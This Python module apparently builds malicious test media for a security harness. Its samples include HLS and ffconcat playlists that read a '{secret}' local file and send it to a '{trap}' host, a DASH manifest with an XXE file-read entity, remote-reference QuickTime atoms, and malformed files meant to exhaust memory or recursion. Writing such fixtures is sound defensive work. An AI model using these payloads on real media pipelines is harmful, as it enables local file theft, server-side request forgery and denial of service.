"""Films that are lists of other files, claim to be endless, or are not films at all."""

import struct
from pathlib import Path

import av
from crafting import Bait, Crafted, cut, data, text

_HLS = "#EXTM3U\n#EXT-X-TARGETDURATION:6\n{}#EXTINF:4,\n{}\n#EXT-X-ENDLIST\n"
_DASH = """<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY x SYSTEM "file://{secret}">]>
<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT4S"><Period>
<AdaptationSet contentType="video"><Representation id="1" bandwidth="1" mimeType="video/mp4">
<BaseURL>{trap}/a.mp4</BaseURL></Representation></AdaptationSet><AdaptationSet><BaseURL>&x;</BaseURL></AdaptationSet>
</Period></MPD>"""
_SDP = (
    "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n"
)


def _box(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", 8 + len(body)) + kind + body


def _clip(path: Path, _bait: Bait) -> None:
    with av.open("testsrc2=size=160x120:rate=10:duration=1", format="lavfi") as source, av.open(str(path), "w") as out:
        stream = out.add_stream("libx264", rate=10)
        stream.width, stream.height, stream.pix_fmt = 160, 120, "yuv420p"
        for frame in source.decode(video=0):
            out.mux(stream.encode(frame.reformat(format="yuv420p")))
        out.mux(stream.encode(None))


def _film_elsewhere(path: Path, bait: Bait) -> None:
    """Make a film whose data reference says that its frames are in another file, or on another machine."""
    _clip(path, bait)
    whole = path.read_bytes()
    mark = b"url \x00\x00\x00\x01"  # "in this very file"
    place = whole.index(mark)
    path.write_bytes(whole[:place] + b"url \x00\x00\x00\x00" + whole[place + len(mark) :])


def _reference_film(path: Path, bait: Bait) -> None:
    address = f"{bait.trap}/film.mov".encode() + b"\0"
    reference = _box(b"rdrf", struct.pack(">I4sI", 0, b"url ", len(address)) + address)
    path.write_bytes(_box(b"ftyp", b"qt  " + bytes(4)) + _box(b"moov", _box(b"rmra", _box(b"rmda", reference))))


def _endless_table(path: Path, bait: Bait) -> None:
    """Make a film whose tables claim four thousand million entries."""
    _clip(path, bait)
    whole = bytearray(path.read_bytes())
    for kind in (b"stts", b"stsz", b"stco"):
        place = whole.index(kind) + (12 if kind == b"stsz" else 8)
        whole[place : place + 4] = b"\xff\xff\xff\xf0"
    path.write_bytes(bytes(whole))


def _deep(path: Path, _bait: Bait) -> None:
    body = b""
    for _ in range(5000):
        body = _box(b"moov", body)
    path.write_bytes(_box(b"ftyp", b"isom" + bytes(4)) + body)


_EBML = b"\x1a\x45\xdf\xa3\x93\x42\x82\x88matroska\x42\x87\x81\x04\x42\x85\x81\x02"

FILMS = [
    Crafted("list.mp4", "film", text(_HLS.format("", "file://{secret}"))),
    Crafted("remote.mp4", "film", text(_HLS.format("", "{trap}/a.ts"))),
    Crafted("remote.m3u8", "film", text(_HLS.format("", "{trap}/a.ts"))),
    Crafted("key.mp4", "film", text(_HLS.format('#EXT-X-KEY:METHOD=AES-128,URI="{trap}/key"\n', "clip.ts"))),
    Crafted("chain.mp4", "film", text(_HLS.format("", "concat:{trap}/a|{secret}"))),
    Crafted("concat.mp4", "film", text("ffconcat version 1.0\nfile '{secret}'\nfile '{trap}/a.ts'\n")),
    Crafted("concat.mkv", "film", text("ffconcat version 1.0\nfile 'clip.mp4'\n")),
    Crafted("dash.mp4", "film", text(_DASH)),
    Crafted("session.mp4", "film", text(_SDP)),
    Crafted("subfile.mp4", "film", text("#EXTM3U\n#EXTINF:1,\nsubfile,,start,0,end,64,,:{secret}\n")),
    Crafted("elsewhere.mp4", "film", _film_elsewhere),
    Crafted("reference.mov", "film", _reference_film),
    Crafted("table.mp4", "film", _endless_table),
    Crafted("deep.mp4", "film", _deep),
    Crafted("length.mkv", "film", data(_EBML + b"\x18\x53\x80\x67\x01" + b"\xff" * 6 + bytes(4000))),
    Crafted("pattern-%05d.mp4", "film", cut(_clip, 0.5)),
    Crafted("cut-2.mp4", "film", cut(_clip, 0.02)),
    Crafted("cut-90.mp4", "film", cut(_clip, 0.9)),
    Crafted("cut-60.mkv", "film", cut(_clip, 0.6)),
    Crafted("cut-60.ts", "film", cut(_clip, 0.6)),
    Crafted("cut-60.avi", "film", cut(_clip, 0.6)),
    Crafted("frames.y4m", "film", data(b"YUV4MPEG2 W100000 H100000 F25:1 C420\nFRAME\n" + bytes(99))),
]
